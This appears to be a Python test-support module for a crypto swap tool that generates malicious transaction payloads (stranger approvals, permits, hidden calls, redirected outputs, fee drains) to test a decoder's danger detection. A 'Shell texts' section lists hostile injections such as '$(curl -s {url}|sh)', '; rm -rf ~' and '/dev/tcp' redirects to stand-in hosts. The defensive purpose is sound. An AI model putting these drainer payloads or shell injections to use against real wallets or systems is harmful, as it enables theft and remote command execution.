"""Malicious payloads by kind, and honest ones in the same forms, from a seed.

A malicious payload is an honest one of `calldata` with one change that an attacker would like, or a message or a plan
that was never honest. Every one of them must be dangerous to `decode`, which is told the sender.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from functools import cache
from random import Random
from typing import Any, Final, NamedTuple

from eth_abi.abi import encode

from swapcli.payload.evm import decode_call, encode_call
from tests.examples import examples
from tests.support.command import CommandResult, run_swapcli
from tests.support.outside_ids import keccak256
from tests.support.service import recipient_on

ME: Final = "0x" + "1" * 40
STARKNET_ME: Final = recipient_on("starknet")
USDC: Final = "0x833589fcd6edb6e08f4c7c32d4f71b54bda02913"
WETH: Final = "0x4200000000000000000000000000000000000006"
DAI: Final = "0x50c5725949a6f0c72e6c4a641f24049a917db0cb"
CBBTC: Final = "0xcbb7c0000ab88b473b1f5afd9ef808440eed33bf"
ZERO: Final = "0x" + "0" * 40
PERMIT2: Final = "0x000000000022d473030f116ddee9f6b43ac78ba3"
UNIVERSAL_ROUTER: Final = "0x6ff5693b99212da76ad316178a184ab56d299b43"
CHAIN_ID: Final = 8453
DIALECTS: Final = ("fibrous", "universal-router")
TOKENS: Final = ("ETH", "USDC", "cbBTC", "AERO", "WETH", "cbETH", "DAI", "VIRTUAL", "EURC")
BASES: Final = examples(3, full=14, fuzz=14)
"""Honest payloads of each dialect that the others are made of."""
LATER: Final = 2**33
"""A deadline far in the future, in Unix seconds."""
_LEAST_MINIMUM: Final = 100_000
"""A smaller one may equal a length or an offset in the calldata, where it is replaced."""
_WORD: Final = 64

Fields = dict[str, Any]


class Base(NamedTuple):
    """An honest payload as `calldata` prints it: the JSON, and each other format."""

    dialect: str
    document: Fields
    formats: Mapping[str, str]

    @property
    def transactions(self) -> list[Fields]:
        """What is signed, in order; the swap is the last."""
        names = ("to", "data", "value", "chainId")
        return [{name: each[name] for name in names} for each in self.document["transactions"]]

    @property
    def swap(self) -> Fields:
        """The transaction of the swap."""
        return self.transactions[-1]

    @property
    def minimum(self) -> int:
        """The least amount that the swap may pay."""
        return int(self.document["minReceived"])


class Case(NamedTuple):
    """What `decode` is given on stdin, and what was done to it; `options` are given beside the sender."""

    kind: str
    change: str
    text: str
    sender: str = ME
    options: tuple[str, ...] = ()


@cache
def base_payload(dialect: str, number: int) -> Base:
    """Return one of the honest payloads."""
    rng = Random(f"honest base {dialect} {number}")
    while True:
        if dialect == "starknet":
            network, (token_in, token_out) = "starknet", rng.sample(("ETH", "STRK", "USDC", "USDT"), 2)
        else:
            network, (token_in, token_out) = "base", rng.sample(TOKENS, 2)
        sold = f"{10 ** rng.randint(-2, 1) * rng.randint(1, 9):g}"
        owner = STARKNET_ME if dialect == "starknet" else ME
        words = ["calldata", network, token_in, token_out, sold, "--destination", owner, "--offline"]
        words += [] if dialect == "starknet" else ["--router-dialect", dialect]
        ran = run_swapcli(*words, "--json")
        if ran.exit_code or int(ran.json["minReceived"]) < _LEAST_MINIMUM or {token_in, token_out} == {"ETH", "WETH"}:
            continue
        formats = {}
        for name in ("cast", "sh", "safe", "wallet-calls", "web3") if dialect != "starknet" else ():
            formats[name] = run_swapcli(*words, "--with-approval", "--format", name).stdout
        return Base(dialect, ran.json, formats)


def random_base(rng: Random, dialect: str | None = None) -> Base:
    """Return an honest payload (of a dialect of EVM networks)."""
    return base_payload(dialect or rng.choice(DIALECTS), rng.randrange(BASES))


def decoded(case: Case, *options: str) -> CommandResult:
    """Return what `decode` says of a case."""
    words = ("decode", "-", "--from", case.sender, "--offline", "--json", *case.options, *options)
    return run_swapcli(*words, stdin=case.text.encode())


def stranger(rng: Random) -> str:
    """Return an address that nobody knows."""
    return f"0x{rng.getrandbits(159) | 1 << 158:040x}"


def _wei(value: str | int) -> int:
    return int(value, 0) if isinstance(value, str) else value


def selector(signature: str) -> str:
    """Return the first four bytes of a function's hash, in hex."""
    return keccak256(signature.encode())[:4].hex()


def call(signature: str, *values: Any) -> str:
    """Return calldata of a function."""
    types = signature.partition("(")[2][:-1].split(",")
    return f"0x{selector(signature)}{encode(types, values).hex()}"


# Envelopes: what a wallet, a library or an aggregator wraps transactions in.


def _as_json(rng: Random, transactions: list[Fields]) -> str:
    return json.dumps(transactions[0] if len(transactions) == 1 else transactions, indent=rng.choice([None, 2]))


def _as_send_transaction(rng: Random, transactions: list[Fields]) -> str:
    sent = [
        {"from": ME, "to": each["to"], "data": each["data"], "value": hex(_wei(each["value"]))} for each in transactions
    ]
    requests = [{"jsonrpc": "2.0", "id": 1, "method": "eth_sendTransaction", "params": [each]} for each in sent]
    return json.dumps(requests[0] if len(requests) == 1 else requests, indent=rng.choice([None, 1]))


def _as_send_calls(rng: Random, transactions: list[Fields]) -> str:
    calls = [{"to": each["to"], "data": each["data"], "value": hex(_wei(each["value"]))} for each in transactions]
    params = {"version": "2.0.0", "chainId": hex(CHAIN_ID), "from": ME, "atomicRequired": True, "calls": calls}
    return json.dumps({"method": "wallet_sendCalls", "params": [params]}, indent=rng.choice([None, 2]))


def _as_aggregator(rng: Random, transactions: list[Fields]) -> str:
    each = {"from": ME, **transactions[-1]}
    return json.dumps({rng.choice(["transactionRequest", "tx", "transaction"]): each})


ENVELOPES: Final[tuple[Callable[[Random, list[Fields]], str], ...]] = (_as_json, _as_send_transaction, _as_send_calls)


def enveloped(rng: Random, transactions: list[Fields]) -> str:
    """Return transactions in an envelope."""
    wrap = rng.choice((*ENVELOPES, _as_aggregator) if len(transactions) == 1 else ENVELOPES)
    return wrap(rng, [dict(each) for each in transactions])


def _changed_swap(rng: Random, base: Base, **changes: Any) -> str:
    return enveloped(rng, [*base.transactions[:-1], base.swap | changes])


# V4 cycles: plans of the Universal Router whose ledger promises more than they pay.

_POOL_KEY = "(address,address,uint24,int24,address)"
_SINGLE = f"({_POOL_KEY},bool,uint128,uint128,bytes)"
_PATH = "(address,(address,uint24,int24,address,bytes)[],uint128,uint128)"
_ROUTER = "0x" + "2".zfill(40)
_SENDER = "0x" + "1".zfill(40)
_KEYS: Final = ((ZERO, USDC, 500, 10), (ZERO, USDC, 3000, 60), (ZERO, CBBTC, 3000, 60))
"""Pools of the embedded market; their prices are near these."""
_PRICES: Final = {USDC: 3100 * 10**6, CBBTC: 3 * 10**6}
_SINGLE_IN, _PATH_IN, _SINGLE_OUT, _SETTLE, _SETTLE_ALL, _TAKE, _TAKE_ALL, _TAKE_SHARE = (
    *(0x06, 0x07, 0x08, 0x0B, 0x0C, 0x0E, 0x0F, 0x10),
)
_V4_SWAP, _SWEEP, _TRANSFER, _PAY_SHARE = 0x10, 0x04, 0x05, 0x06
_THREE = ["address", "address", "uint256"]

Action = tuple[int, bytes]


class _Order(NamedTuple):
    """Native currency for a token of a V4 pool, with an honest minimum."""

    key: tuple[Any, ...]
    amount: int
    least: int

    @property
    def token(self) -> str:
        """The token that is bought."""
        return str(self.key[1])

    def swap_in(self, sells_native: bool, amount: int, least: int) -> Action:
        """A swap of an exact input."""
        return _SINGLE_IN, encode([_SINGLE], [((*self.key, ZERO), sells_native, amount, least, b"")])

    def path_in(self, sells_native: bool, amount: int, least: int) -> Action:
        """The same as a path of one pool."""
        start, end = (ZERO, self.token) if sells_native else (self.token, ZERO)
        return _PATH_IN, encode([_PATH], [(start, [(end, *self.key[2:], ZERO, b"")], amount, least)])

    def swap_out(self, sells_native: bool, amount: int, most: int) -> Action:
        """A swap of an exact output."""
        return _SINGLE_OUT, encode([_SINGLE], [((*self.key, ZERO), sells_native, amount, most, b"")])


def _v4_order(rng: Random) -> _Order:
    first, second, fee, spacing = rng.choice(_KEYS)
    amount = rng.randint(1, 400) * 10**15
    least = amount * _PRICES[second] // 10**18 * 994 // 1000
    return _Order((first, second, fee, spacing), amount, least)


def _settle_all(currency: str, most: int) -> Action:
    return _SETTLE_ALL, encode(["address", "uint256"], [currency, most])


def _take_all(currency: str, least: int) -> Action:
    return _TAKE_ALL, encode(["address", "uint256"], [currency, least])


def _take(currency: str, to: str, amount: int = 0) -> Action:
    return _TAKE, encode(_THREE, [currency, to, amount])


def plan_of(rng: Random, value: int, commands: list[tuple[int, bytes]]) -> str:
    """Return a plan of the Universal Router in an envelope."""
    codes, inputs = bytes(code for code, _ in commands), [content for _, content in commands]
    data = call("execute(bytes,bytes[],uint256)", codes, inputs, LATER if rng.random() < 0.2 else 1_800_000_000)
    swap = {"to": UNIVERSAL_ROUTER, "data": data, "value": str(value), "chainId": CHAIN_ID}
    return enveloped(rng, [swap])


def _v4(*actions: Action) -> tuple[int, bytes]:
    codes, parameters = bytes(code for code, _ in actions), [content for _, content in actions]
    return _V4_SWAP, encode(["bytes", "bytes[]"], [codes, parameters])


def v4_cycle(rng: Random) -> Case:
    """Return a plan that swaps back what it bought, so that nothing of the promised minimum arrives."""
    order = _v4_order(rng)
    there = rng.choice([order.swap_in, order.path_in])(True, order.amount, order.least)
    back_amount = rng.choice([order.least - 1, order.least, order.least * 999 // 1000])
    back = rng.choice([order.swap_in, order.path_in])(False, back_amount, rng.choice([0, 1]))
    dust = rng.choice([order.swap_in, order.path_in])(True, rng.choice([1, 1000, 10**9]), 0)
    end = [_settle_all(ZERO, 2 * order.amount), _take_all(order.token, 0), _take_all(ZERO, 0)]
    to_router = [_settle_all(ZERO, 2 * order.amount), _take(order.token, _ROUTER), _take(ZERO, _ROUTER)]
    sweeps = [(_SWEEP, encode(_THREE, [token, _SENDER, 0])) for token in (order.token, ZERO)]
    out_first = order.swap_out(True, order.least, order.amount)
    back_out = order.swap_out(False, order.amount * rng.randint(900, 990) // 1000, order.least)
    plans: dict[str, list[tuple[int, bytes]]] = {
        "there, back and dust": [_v4(there, back, dust, *end)],
        "there and back": [_v4(there, back, *end)],
        "twice there and back": [_v4(there, back, there, back, *end)],
        "exact output first": [_v4(out_first, back, *end)],
        "back as an exact output": [_v4(there, back_out, dust, *end)],
        "taken to the router": [_v4(there, back, dust, *to_router), *sweeps],
        "in two commands": [_v4(there, back, *to_router), _v4(dust, *end), *sweeps],
        "back before there": [_v4(back, there, *end)],
    }
    change = rng.choice(list(plans))
    return Case("v4 cycle", change, plan_of(rng, order.amount * rng.choice([1, 2]), plans[change]))


def take(rng: Random) -> Case:
    """Return a plan whose V4 swap gives its output, or a share of it, to a stranger."""
    order, other = _v4_order(rng), stranger(rng)
    there = order.swap_in(True, order.amount, rng.choice([0, order.least]))
    settle, share = _settle_all(ZERO, order.amount), rng.choice([30, 300, 5_000, 10_000])
    rest = rng.choice([_take_all(order.token, 0), _take(order.token, _SENDER)])
    to_router = _take(order.token, _ROUTER)
    plans: dict[str, list[tuple[int, bytes]]] = {
        "all": [_v4(there, settle, _take(order.token, other))],
        "an amount": [_v4(there, settle, _take(order.token, other, order.least // 2), rest)],
        "a share": [_v4(there, settle, (_TAKE_SHARE, encode(_THREE, [order.token, other, share])), rest)],
        "a pair": [_v4(there, (0x11, encode(["address"] * 3, [ZERO, order.token, other])))],
        "a sweep in V4": [_v4(there, settle, to_router, (0x14, encode(["address"] * 2, [order.token, other])))],
        "a sweep": [_v4(there, settle, to_router), (_SWEEP, encode(_THREE, [order.token, other, 0]))],
        "a transfer": [_v4(there, settle, to_router), (_TRANSFER, encode(_THREE, [order.token, other, 1 << 255]))],
        "a share of the router's": [
            _v4(there, settle, to_router),
            (_PAY_SHARE, encode(_THREE, [order.token, other, share])),
            (_SWEEP, encode(_THREE, [order.token, _SENDER, 0])),
        ],
        "the rest of the input": [
            _v4(there, settle, rest),
            (_SWEEP, encode(_THREE, [ZERO, other, 0])),
        ],
        "nothing is taken": [_v4(order.swap_in(True, order.amount, 0), settle, (0x12, encode(["address"], [ZERO])))],
    }
    change = rng.choice(list(plans))
    return Case("take", change, plan_of(rng, order.amount + rng.choice([0, 10**17]), plans[change]))


# Shell texts.

_INSERTED: Final = (
    "$(curl -s {url}|sh)", "`curl {url}`", ";curl {url}", "; rm -rf ~", "&& curl {url}", "| sh", "|| curl {url}",
    " > ~/.bashrc", " >> ~/.profile", " < /dev/tcp/1.2.3.4/9", " & curl {url}", "${{IFS}}x", "$HOME", "$(id)",
    " <(curl {url})", "\n curl {url}", "\\\n--rpc-url {url}", " #", "{{a,b}}", " * ", "!!", "~root", " $'\\x3bid'",
)  # fmt: skip
_OPTIONS: Final = (
    "--rpc-url {url}", "--private-key $KEY", "--unlocked", "--from {other}", "--create 0x60", "-r {url}", "--legacy",
    "--access-list x", "--auth {other}", "--blob", "--flashbots", "--keystore x", "--mnemonic x", "--interactive",
    "--gas-price 999999999999999", "--priority-gas-price 999999999999999", "--ledger", "--trezor", "--async",
)  # fmt: skip
_ASSIGNED: Final = (
    "PATH=/tmp/x:$PATH", "LD_PRELOAD=/tmp/x.so", "ETH_RPC_URL={url}", "SWAP_NOTE=$(id)", "SWAP_X=1", "BASH_ENV=/tmp/x",
    "PS1='$(id)'", "PROMPT_COMMAND=id", "ETH_FROM={other}", "IFS=x", "SWAP_RPC_URL={url}", "ETH_PRIVATE_KEY=1",
    "alias cast='sh -c id'", "export PATH=/tmp/x", "cast() {{ id; }}", "eval id", "source /tmp/x", ". /tmp/x",
    "curl {url} | sh", "SWAP_APPROVAL_9_TO={other}", "readonly SWAP_TO={other}", "exec sh", "trap id EXIT",
)  # fmt: skip


def shell(rng: Random) -> Case:
    """Return a shell text that does more than send the transactions."""
    base = random_base(rng)
    form = rng.choice(["cast", "sh"])
    text, url, other = base.formats[form], f"http://{rng.choice(['x.example', '1.2.3.4'])}/a", stranger(rng)
    lines = text.rstrip("\n").split("\n")
    at = rng.randrange(len(lines))
    if form == "cast" and rng.random() < 0.4:
        change = rng.choice(_OPTIONS).format(url=url, other=other)
        words = lines[at].split(" ")
        words.insert(rng.randint(2, len(words)), change)
        lines[at] = " ".join(words)
    elif rng.random() < 0.5:
        change = rng.choice(_ASSIGNED).format(url=url, other=other)
        lines.insert(rng.randint(0, len(lines)), change)
    else:
        change = rng.choice(_INSERTED).format(url=url, other=other)
        # In the middle or at the end of a line, but not in a quoted text, where it is a text.
        places = [k for k in range(4, len(lines[at]) + 1) if lines[at][:k].count("'") % 2 == 0]
        place = rng.choice([*places, len(lines[at])])
        lines[at] = lines[at][:place] + change + lines[at][place:]
    return Case("shell", change, "\n".join(lines) + "\n")


# Fees of wallet requests.


def fees(rng: Random) -> Case:
    """Return a request whose gas price takes the balance."""
    base = random_base(rng)
    names = rng.choice([("maxFeePerGas",), ("gasPrice",), ("maxFeePerGas", "maxPriorityFeePerGas")])
    price = rng.choice([10**13, 10**14, 10**15, 5 * 10**17])
    extra: Fields = {name: hex(price) for name in names}
    if rng.random() < 0.4:
        extra["gas"] = hex(rng.choice([300_000, 1_000_000]))
    if names == ("maxFeePerGas",) and rng.random() < 0.5:
        extra["maxPriorityFeePerGas"] = hex(1000)
    sent = {"from": ME, "to": base.swap["to"], "data": base.swap["data"], "value": hex(_wei(base.swap["value"]))}
    request = {"method": "eth_sendTransaction", "params": [sent | extra]}
    plain = base.swap | extra
    return Case("fees", ", ".join(extra), json.dumps(rng.choice([request, plain])))


# Approvals.


def approval(rng: Random) -> Case:
    """Return a call, alone or before the swap, that lets a stranger take tokens."""
    base, other = random_base(rng), stranger(rng)
    token = rng.choice([USDC, WETH, CBBTC, DAI])
    amount = rng.choice([1, 10**6, 10**24, 2**160 - 1, 2**256 - 1])
    calls = {
        "approve": (token, call("approve(address,uint256)", other, amount)),
        "increaseAllowance": (token, call("increaseAllowance(address,uint256)", other, amount)),
        "transfer": (token, call("transfer(address,uint256)", other, amount)),
        "transferFrom": (token, call("transferFrom(address,address,uint256)", ME, other, amount)),
        "setApprovalForAll": (token, call("setApprovalForAll(address,bool)", other, True)),
        "Permit2 approve": (
            PERMIT2,
            call("approve(address,address,uint160,uint48)", token, other, amount % 2**160 or 1, 2**47),
        ),
        "Permit2 transferFrom": (
            PERMIT2,
            call("transferFrom(address,address,uint160,address)", ME, other, 10**6, token),
        ),
        "permit": (
            token,
            call(
                "permit(address,address,uint256,uint256,uint8,bytes32,bytes32)",
                ME,
                other,
                amount,
                LATER,
                27,
                bytes(32),
                bytes(32),
            ),
        ),
        "approve the token itself": (token, call("approve(address,uint256)", token, amount)),
        "approve another router": (token, call("approve(address,uint256)", stranger(rng), 2**256 - 1)),
    }
    change = rng.choice(list(calls))
    to, data = calls[change]
    extra = {"to": to, "data": data, "value": "0", "chainId": CHAIN_ID}
    swaps = base.transactions
    if rng.random() < 0.5:
        return Case("approval", change, enveloped(rng, [extra]))
    place = rng.randint(0, len(swaps) - 1)
    return Case("approval", f"{change} before the swap", enveloped(rng, [*swaps[:place], extra, *swaps[place:]]))


# Messages (EIP-712).

_DOMAIN: Final = (
    {"name": "name", "type": "string"},
    {"name": "version", "type": "string"},
    {"name": "chainId", "type": "uint256"},
    {"name": "verifyingContract", "type": "address"},
)


def _message(primary: str, domain: Fields, types: Mapping[str, str], message: Fields) -> Fields:
    """Return typed data; `types` are written as "type name, type name"."""
    fields = [field for field in _DOMAIN if field["name"] in domain]
    listed = {
        name: [dict(zip(("type", "name"), field.split(" "), strict=True)) for field in text.split(", ")]
        for name, text in types.items()
    }
    return {
        "types": {"EIP712Domain": fields, **listed},
        "primaryType": primary,
        "domain": domain,
        "message": message,
    }


def _token_domain(name: str, token: str, version: str = "2") -> Fields:
    return {"name": name, "version": version, "chainId": CHAIN_ID, "verifyingContract": token}


_PERMIT2_DOMAIN: Final = {"name": "Permit2", "chainId": CHAIN_ID, "verifyingContract": PERMIT2}
_TOKEN_PERMIT: Final = "address owner, address spender, uint256 value, uint256 nonce, uint256 deadline"
_DETAILS: Final = "address token, uint160 amount, uint48 expiration, uint48 nonce"
_SINGLE_PERMIT: Final = "PermitDetails details, address spender, uint256 sigDeadline"


def message(rng: Random) -> Case:
    """Return a message that gives a stranger tokens, or that nobody knows."""
    other, value = stranger(rng), str(rng.choice([10**6, 10**20, 2**256 - 1]))
    until = str(rng.choice([1_800_000_000, LATER, 2**48 - 1]))
    details = {"token": rng.choice([USDC, WETH]), "amount": str(2**160 - 1), "expiration": until, "nonce": "0"}
    details["expiration"] = str(min(int(until), 2**48 - 1))
    permit = {"owner": ME, "spender": other, "value": value, "nonce": "0", "deadline": until}
    to_router = permit | {"spender": UNIVERSAL_ROUTER, "deadline": "1800000000", "value": "1000000"}
    permitted = {"token": USDC, "amount": value}
    choices: dict[str, Fields] = {
        "permit": _message("Permit", _token_domain("USD Coin", USDC), {"Permit": _TOKEN_PERMIT}, permit),
        "permit of another owner": _message(
            "Permit", _token_domain("USD Coin", USDC), {"Permit": _TOKEN_PERMIT}, to_router | {"owner": other}
        ),
        "permit of DAI's kind": _message(
            "Permit",
            _token_domain("Dai Stablecoin", DAI, "1"),
            {"Permit": "address holder, address spender, uint256 nonce, uint256 expiry, bool allowed"},
            {"holder": ME, "spender": other, "nonce": "0", "expiry": rng.choice(["0", until]), "allowed": True},
        ),
        "Permit2 single": _message(
            "PermitSingle",
            _PERMIT2_DOMAIN,
            {"PermitSingle": _SINGLE_PERMIT, "PermitDetails": _DETAILS},
            {"details": details, "spender": other, "sigDeadline": until},
        ),
        "Permit2 batch": _message(
            "PermitBatch",
            _PERMIT2_DOMAIN,
            {"PermitBatch": "PermitDetails[] details, address spender, uint256 sigDeadline", "PermitDetails": _DETAILS},
            {"details": [details, details | {"token": DAI}], "spender": other, "sigDeadline": until},
        ),
        "Permit2 transfer": _message(
            "PermitTransferFrom",
            _PERMIT2_DOMAIN,
            {
                "PermitTransferFrom": "TokenPermissions permitted, address spender, uint256 nonce, uint256 deadline",
                "TokenPermissions": "address token, uint256 amount",
            },
            {"permitted": permitted, "spender": other, "nonce": "0", "deadline": until},
        ),
        "Permit2 witness": _message(
            "PermitWitnessTransferFrom",
            _PERMIT2_DOMAIN,
            {
                "PermitWitnessTransferFrom": "TokenPermissions permitted, address spender, uint256 nonce, "
                "uint256 deadline, Order witness",
                "TokenPermissions": "address token, uint256 amount",
                "Order": "address maker, bytes32 data",
            },
            {
                "permitted": permitted,
                "spender": other,
                "nonce": "0",
                "deadline": until,
                "witness": {"maker": other, "data": "0x" + "00" * 32},
            },
        ),
        "order of CoW": _message(
            "Order",
            {"name": "Gnosis Protocol", "version": "v2", "chainId": CHAIN_ID, "verifyingContract": stranger(rng)},
            {
                "Order": "address sellToken, address buyToken, address receiver, uint256 sellAmount, "
                "uint256 buyAmount, uint32 validTo"
            },
            {
                "sellToken": USDC,
                "buyToken": WETH,
                "receiver": other,
                "sellAmount": value,
                "buyAmount": "1",
                "validTo": 1_800_000_000,
            },
        ),
        "transaction of a Safe": _message(
            "SafeTx",
            {"chainId": CHAIN_ID, "verifyingContract": ME},
            {"SafeTx": "address to, uint256 value, bytes data, uint8 operation, uint256 nonce"},
            {"to": other, "value": value, "data": "0x", "operation": rng.choice([0, 1]), "nonce": "0"},
        ),
        "forward request": _message(
            "ForwardRequest",
            {"name": "Forwarder", "version": "1", "chainId": CHAIN_ID, "verifyingContract": other},
            {"ForwardRequest": "address from, address to, uint256 value, bytes data"},
            {"from": ME, "to": USDC, "value": "0", "data": call("transfer(address,uint256)", other, 10**6)},
        ),
        "a permit that its types do not have": _message(
            "Permit",
            _token_domain("USD Coin", USDC),
            {"Permit": "address owner, address spender, uint256 value"},
            to_router,
        ),
        "another chain": _message(
            "Permit",
            _token_domain("USD Coin", USDC) | {"chainId": rng.choice([1, 10, 137])},
            {"Permit": _TOKEN_PERMIT},
            permit,
        ),
    }
    change = rng.choice(list(choices))
    typed = choices[change]
    if change == "permit" and rng.random() < 0.3:
        change, typed["types"]["EIP712Domain"] = "a domain without its contract", list(_DOMAIN[:2])
    method = rng.choice(["", "eth_signTypedData_v4", "eth_signTypedData_v3", "eth_signTypedData"])
    content = rng.choice([typed, json.dumps(typed)])
    text = json.dumps({"method": method, "params": [ME, content]} if method else typed)
    return Case("message", f"{change} {method}".strip(), text)


# Recipients, commands, native currency.


def _replaced(text: str, old: int, new: int) -> str:
    return text.replace(f"{old:0{_WORD}x}", f"{new:0{_WORD}x}")


def recipient(rng: Random) -> Case:
    """Return a swap whose output goes to a stranger."""
    if rng.random() < 0.15:
        base = base_payload("starknet", rng.randrange(BASES))
        felt_of_other, mine = hex(rng.getrandbits(240)), int(STARKNET_ME, 16)
        felts = [felt_of_other if int(str(felt), 0) == mine else felt for felt in base.document["calldata"]]
        shown = {"network": "starknet", "to": base.document["to"], "calldata": felts}
        return Case("recipient", "starknet", json.dumps(shown), STARKNET_ME)
    base = random_base(rng)
    other = int(stranger(rng), 16)
    data = _replaced(base.swap["data"], int(ME, 16), other)
    if data == base.swap["data"]:  # the sender's own mark stands for it
        data = _replaced(data, 1, other)
    return Case("recipient", base.dialect, _changed_swap(rng, base, data=data))


def command(rng: Random) -> Case:
    """Return a swap with something added that no swap needs."""
    base, other = random_base(rng), stranger(rng)
    if base.dialect == "universal-router":
        from tests.faces.cli.commands.test_decode_hostile import Built, add_command

        shown = json.loads(decoded(Case("", "", json.dumps(base.swap))).stdout)
        payload = {"calldata": base.swap["data"]}
        data = add_command(rng, payload, Built(base.dialect, payload, shown))["calldata"]
        return Case("command", "universal-router", _changed_swap(rng, base, data=data))
    parsed = decode_call(base.swap["data"])
    change = rng.choice(["integrator's fee", "integrator's surplus", "swap"])
    if change == "swap":
        step = rng.choice(parsed.swaps)
        step = rng.choice([step._replace(pool_address=other), step._replace(token_out=other)])
        swaps = list(parsed.swaps)
        swaps.insert(rng.randint(0, len(swaps)), step)
        parsed = parsed._replace(swaps=tuple(swaps))
    else:
        share = rng.randint(1, 10_000)
        shares = (share, 0) if change.endswith("fee") else (0, share)
        parsed = parsed._replace(integrator_data=encode(["address", "uint256", "uint256"], [other, *shares]))
    return Case("command", change, _changed_swap(rng, base, data=encode_call(parsed)))


def native(rng: Random) -> Case:
    """Return a transaction that sends another value than the swap needs."""
    base, other = random_base(rng), stranger(rng)
    value = _wei(base.swap["value"])
    more = rng.choice([1, 10**15, 10**18, value + 1])
    change = rng.choice(["more value", "no value", "a transfer", "a transfer before the swap"])
    if change == "no value" and value:
        sent = {"from": ME, "to": base.swap["to"], "data": base.swap["data"]}
        return Case("native", change, json.dumps({"method": "eth_sendTransaction", "params": [sent]}))
    plain = {"to": other, "data": "0x", "value": str(10**17), "chainId": CHAIN_ID}
    if change == "a transfer":
        return Case("native", change, enveloped(rng, [plain]))
    if change == "a transfer before the swap":
        return Case("native", change, enveloped(rng, [plain, *base.transactions]))
    return Case("native", "more value", _changed_swap(rng, base, value=str(value + more)))


# Documents.


def document(rng: Random) -> Case:
    """Return a document that says, or hides, something else than it signs."""
    base, other = random_base(rng), stranger(rng)
    swap, hidden = base.swap, {"to": stranger(rng), "data": call("approve(address,uint256)", other, 2**256 - 1)}
    sent = {"from": ME, "to": swap["to"], "data": swap["data"], "value": hex(_wei(swap["value"]))}
    request = {"method": "eth_sendTransaction", "params": [sent]}
    safe = json.loads(base.formats["safe"])
    full = json.loads(json.dumps(base.document))
    authorization = [
        {"chainId": hex(CHAIN_ID), "address": other, "nonce": "0x0", "yParity": "0x0", "r": "0x1", "s": "0x1"}
    ]
    change = rng.choice(
        [
            "another router", "another chain", "a deployment", "delegate call", "authorization list", "hidden call",
            "hidden call in the list", "lower minimum", "lower minimum in the calldata", "network_id", "chain.id",
            "another transaction in the list", "delegate call in Safe", "nested hidden", "CAIP-2",
            "two swaps", "another document's calldata",
        ]
    )  # fmt: skip
    low = rng.choice([0, 1, int(base.minimum * rng.uniform(0.01, 0.5))])
    lower = _replaced(swap["data"], base.minimum, low)
    texts: dict[str, Callable[[], Any]] = {
        "another router": lambda: swap | {"to": other},
        "another chain": lambda: swap | {"chainId": rng.choice([1, 10, 56, 137])},
        "a deployment": lambda: {
            "method": "eth_sendTransaction",
            "params": [{key: each for key, each in sent.items() if key != "to"}],
        },
        "delegate call": lambda: swap | {"operation": 1},
        "authorization list": lambda: {
            "method": "eth_sendTransaction",
            "params": [sent | {"type": "0x4", "authorizationList": authorization}],
        },
        "hidden call": lambda: swap | {rng.choice(["then", "after", "hook", "callback", "next"]): hidden},
        "hidden call in the list": lambda: {**request, "params": [sent, hidden]},
        "lower minimum": lambda: swap | {"data": lower},
        "lower minimum in the calldata": lambda: full | {
            "calldata": lower,
            "transactions": [*full["transactions"][:-1], full["transactions"][-1] | {"data": lower}],
        },
        "network_id": lambda: {"network_id": rng.choice(["1", 10]), "from": ME, "to": swap["to"], "input": swap["data"],
                               "value": swap["value"]},
        "chain.id": lambda: {"chain": {"id": rng.choice([1, 10])}, **{k: swap[k] for k in ("to", "data", "value")}},
        "another transaction in the list": lambda: {
            "method": "wallet_sendCalls",
            "params": [{"chainId": hex(CHAIN_ID), "from": ME, "calls": [sent, hidden | {"value": "0x0"}]}],
        },
        "delegate call in Safe": lambda: safe | {
            "transactions": [each | {"operation": 1} for each in safe["transactions"]]
        },
        "nested hidden": lambda: {"transactionRequest": swap, "approval": {"spender": other, "token": USDC}},
        "CAIP-2": lambda: swap | {"chainId": f"eip155:{rng.choice([1, 10, 137])}"},
        "two swaps": lambda: [*base.transactions, random_base(rng, "universal-router").swap, hidden | {"value": "0"}],
        "another document's calldata": lambda: full | {"to": other},
    }  # fmt: skip
    return Case("document", change, json.dumps(texts[change]()))


KINDS: Final[Mapping[str, Callable[[Random], Case]]] = {
    "v4 cycle": v4_cycle,
    "shell": shell,
    "fees": fees,
    "approval": approval,
    "message": message,
    "recipient": recipient,
    "command": command,
    "take": take,
    "native": native,
    "document": document,
}


# Honest payloads.


def honest(rng: Random) -> Case:
    """Return an honest payload in one of the forms that malicious ones have."""
    if rng.random() < 0.1:
        base = base_payload("starknet", rng.randrange(BASES))
        shown = {key: base.document[key] for key in ("network", "to", "calldata")}
        return Case("honest", "starknet", json.dumps(shown), STARKNET_ME)
    base = random_base(rng)
    form = rng.choice(["json", "cast", "sh", "safe", "wallet-calls", "web3", "envelope", "envelope", "fees", "plan"])
    if form == "json":
        return Case("honest", form, json.dumps(base.document))
    if form == "envelope":
        return Case("honest", form, enveloped(rng, base.transactions))
    if form == "plan":
        order = _v4_order(rng)
        swap = rng.choice([order.swap_in, order.path_in])(True, order.amount, order.least)
        end = [_settle_all(ZERO, order.amount), rng.choice([_take_all(order.token, order.least),
                                                              _take(order.token, _SENDER)])]  # fmt: skip
        return Case("honest", form, plan_of(rng, order.amount, [_v4(swap, *end)]))
    if form == "fees":
        tip = rng.choice([10**3, 10**6, 10**7])
        price = {"maxFeePerGas": hex(rng.choice([10**7, 5 * 10**7, 10**8]) + tip), "maxPriorityFeePerGas": hex(tip)}
        sent = {"from": ME, **base.swap, "value": hex(_wei(base.swap["value"])), "chainId": hex(CHAIN_ID), **price}
        return Case("honest", form, json.dumps({"method": "eth_sendTransaction", "params": [sent]}))
    return Case("honest", form, base.formats[form])
